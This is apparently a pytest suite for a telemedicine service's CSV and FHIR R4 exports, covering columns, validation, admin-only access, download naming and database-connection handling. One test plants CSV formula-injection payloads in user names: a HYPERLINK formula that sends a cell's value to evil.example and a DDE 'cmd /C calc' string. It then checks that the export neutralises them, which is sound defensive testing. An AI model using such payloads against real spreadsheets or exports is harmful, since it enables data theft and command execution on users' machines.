"""The CSV export and the FHIR R4 Bundle, validated with fhir.resources' R4B models."""
import csv
import io
import json

from fhir.resources.R4B.bundle import Bundle

from telemed.services.exports import CSV_COLUMNS
from tests.helpers import close_body, consultation_body


def history(login, district):
    feldsher, doctor = login(district.feldsher_a), login(district.doctor)
    closed = feldsher.post("/consultations", json=consultation_body(
        priority="emergency", vitals={"hr": 120, "sbp": 85, "dbp": 50, "rr": 26, "spo2": 90,
                                      "temp_c": 38.9, "glucose_mmol": 6.1, "avpu": "V",
                                      "on_oxygen": True})).get_json()
    doctor.post(f"/consultations/{closed['id']}/accept")
    doctor.post(f"/consultations/{closed['id']}/close",
                json=close_body(icd10=["I21.9", "R57.0"], disposition="ambulance_called"))
    waiting = feldsher.post("/consultations", json=consultation_body(priority="routine")).get_json()
    other = login(district.feldsher_b).post("/consultations", json=consultation_body()).get_json()
    return closed, waiting, other


def test_csv_export_has_the_documented_columns(login, district):
    closed, waiting, other = history(login, district)
    admin = login(district.admin)
    response = admin.get("/exports/consultations.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert list(rows[0].keys()) == CSV_COLUMNS
    by_id = {r["id"]: r for r in rows}
    assert set(by_id) == {closed["id"], waiting["id"], other["id"]}
    row = by_id[closed["id"]]
    assert row["disposition"] == "ambulance_called" and row["icd10"] == "I21.9 R57.0"
    assert row["effective_priority"] == "emergency" and row["news2"] and int(row["time_to_accept_s"]) >= 0
    assert "iin" not in response.get_data(as_text=True).splitlines()[0]
    only_b = admin.get(f"/exports/consultations.csv?facility_id={district.post_b.id}").get_data(as_text=True)
    assert [r["id"] for r in csv.DictReader(io.StringIO(only_b))] == [other["id"]]


def test_fhir_bundle_validates_as_r4(login, district):
    closed, waiting, _ = history(login, district)
    response = login(district.admin).get("/exports/fhir")
    assert response.status_code == 200 and response.mimetype == "application/fhir+json"
    data = json.loads(response.get_data(as_text=True))
    bundle = Bundle.model_validate(data)       # raises on anything R4B does not allow
    assert bundle.type == "collection"
    kinds = [e.resource.get_resource_type() for e in bundle.entry]
    for kind in ("Organization", "Practitioner", "Patient", "ServiceRequest", "Encounter",
                 "Condition", "Observation"):
        assert kind in kinds
    resources = {e.resource.id: e.resource for e in bundle.entry}
    request = resources[f"sr-{closed['id']}"]
    assert (request.priority, request.status) == ("stat", "completed")
    assert resources[f"sr-{waiting['id']}"].priority == "routine"
    encounter = resources[f"enc-{closed['id']}"]
    assert encounter.class_fhir.code == "VR" and encounter.status == "finished"
    conditions = [r for r in resources.values() if r.get_resource_type() == "Condition"]
    assert sorted(c.code.coding[0].code for c in conditions) == ["I21.9", "R57.0"]
    assert conditions[0].code.coding[0].system == "http://hl7.org/fhir/sid/icd-10"
    loinc = {r.code.coding[0].code for r in resources.values() if r.get_resource_type() == "Observation"}
    assert {"8867-4", "9279-1", "59408-5", "8310-5", "8480-6", "8462-4", "15074-8", "67775-7"} <= loinc
    practitioners = [r for r in resources.values() if r.get_resource_type() == "Practitioner"]
    assert len(practitioners) == len({p.id for p in practitioners})   # each person once


def test_exports_are_for_admins_and_check_their_range(login, district):
    for who in (district.feldsher_a, district.doctor):
        assert login(who).get("/exports/consultations.csv").status_code == 403
        assert login(who).get("/exports/fhir").status_code == 403
    admin = login(district.admin)
    assert admin.get("/exports/fhir?from=2026-05-01&to=2026-04-01").status_code == 422
    assert admin.get("/exports/consultations.csv?facility_id=424242").status_code == 422


def test_no_csv_cell_can_be_a_spreadsheet_formula(app, login, district):
    from telemed.extensions import db
    from telemed.models import User

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    with app.app_context():
        db.session.get(User, district.feldsher_a.id).full_name = hostile
        db.session.get(User, district.doctor.id).full_name = "@SUM(1+1)*cmd|' /C calc'!A0"
        db.session.commit()
    closed, _waiting, _other = history(login, district)
    admin = login(district.admin)
    rows = list(csv.DictReader(io.StringIO(admin.get("/exports/consultations.csv").get_data(as_text=True))))
    mine = next(r for r in rows if r["id"] == closed["id"])
    assert mine["requester"] == "'" + hostile
    assert mine["doctor"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    every_cell = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in every_cell)
    audit = admin.get("/exports/audit.csv").get_data(as_text=True)
    details = [row["detail"] for row in csv.DictReader(io.StringIO(audit))]
    assert details and all(isinstance(json.loads(d), dict) for d in details)   # JSON, not repr


def test_exports_download_as_files_named_by_their_period(login, district):
    admin = login(district.admin)
    names = {}
    for path in ("/exports/fhir?from=2026-04-01&to=2026-04-30",
                 "/exports/consultations.csv?from=2026-04-01&to=2026-04-30", "/exports/audit.csv"):
        answer = admin.get(path)
        answer.get_data()  # read to the end, as a browser saving the file does
        names[path.split("?")[0]] = answer.headers["Content-Disposition"]
    assert names == {
        "/exports/fhir": "attachment; filename=consultations_2026-04-01_2026-04-30.fhir.json",
        "/exports/consultations.csv": "attachment; filename=consultations_2026-04-01_2026-04-30.csv",
        "/exports/audit.csv": "attachment; filename=audit.csv",
    }


def _download_paused_mid_read(app, login, district, monkeypatch):
    """(the streamed response, its chunks, the two received so far, the consultations' ids,
    the count of connections taken out of the pool and closed since)."""
    import sqlalchemy as sa

    from telemed.extensions import db
    from telemed.services import exports

    monkeypatch.setattr(exports, "BATCH", 1)  # one chunk a consultation, so the download pauses mid-read
    ids = {c["id"] for c in history(login, district)}
    closed_apart = []
    with app.app_context():
        engine = db.engine
    sa.event.listen(engine, "close_detached", lambda *_: closed_apart.append(1))
    response = login(district.admin).http.get("/api/v1/exports/consultations.csv", buffered=False)
    chunks = iter(response.response)
    received = [next(chunks), next(chunks)]  # the header and the first consultation
    return response, chunks, received, ids, closed_apart


def test_an_export_downloading_holds_no_pooled_connection(app, login, district, monkeypatch):
    """An export is paced by the administrator's line: while it downloads, the pool's connections
    stay with requests (the rows come on a connection of their own), and every row still comes."""
    from telemed.extensions import db

    response, chunks, received, ids, closed_apart = _download_paused_mid_read(app, login, district,
                                                                              monkeypatch)
    with app.app_context():
        assert db.engine.pool.checkedout() == 0
    received.extend(chunks)
    response.close()
    rows = list(csv.DictReader(io.StringIO(b"".join(received).decode())))
    assert {r["id"] for r in rows} == ids
    assert closed_apart == [1]


def test_an_export_abandoned_halfway_closes_its_connection(app, login, district, monkeypatch):
    """The administrator closes the tab mid-download: the connection read apart is closed, not
    left open on the database server."""
    response, _chunks, _received, _ids, closed_apart = _download_paused_mid_read(app, login, district,
                                                                                 monkeypatch)
    assert closed_apart == []
    response.close()
    assert closed_apart == [1]


def test_downloads_past_the_limit_are_refused_before_they_begin(app, login, district, monkeypatch):
    """Each download reads on a connection outside the pool: past TELEMED_EXPORT_CONCURRENCY at once
    the next one is a 503 to retry, in the caller's language, not one more database connection;
    the slot comes back however a download ends."""
    monkeypatch.setattr(app.config["TELEMED"], "export_concurrency", 1)
    response, chunks, received, ids, _closed = _download_paused_mid_read(app, login, district, monkeypatch)
    admin = login(district.admin)
    for path in ("/exports/consultations.csv", "/exports/fhir", "/exports/audit.csv"):
        refused = admin.get(path, headers={"Accept-Language": "ru"})
        assert refused.status_code == 503 and refused.headers["Retry-After"] == "5"
        assert refused.get_json()["error"]["code"] == "unavailable"
        assert "выгруз" in refused.get_json()["error"]["message"]
    received.extend(chunks)  # the first download reads to its end
    response.close()
    assert {r["id"] for r in csv.DictReader(io.StringIO(b"".join(received).decode()))} == ids

    # The administrator's click on an export link: a page saying so, not JSON text. No slot is
    # free with the limit at 0 (a page rendered while another request is paused mid-stream in this
    # one test thread would share its contexts; a server runs each request in its own).
    monkeypatch.setattr(app.config["TELEMED"], "export_concurrency", 0)
    clicked = admin.get("/exports/fhir", headers={
        "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"})
    assert clicked.status_code == 503 and clicked.mimetype == "text/html"
    assert "Too many downloads" in clicked.get_data(as_text=True)
    monkeypatch.setattr(app.config["TELEMED"], "export_concurrency", 1)

    # One closed before its first row (the administrator cancels at once) gives its slot back too.
    unread = admin.http.get("/api/v1/exports/fhir", buffered=False)
    assert unread.status_code == 200
    unread.close()
    del unread
    whole = admin.get("/exports/fhir")
    assert whole.status_code == 200
    entries = json.loads(whole.get_data(as_text=True))["entry"]
    assert {e["resource"]["id"] for e in entries} >= {f"sr-{consultation_id}" for consultation_id in ids}
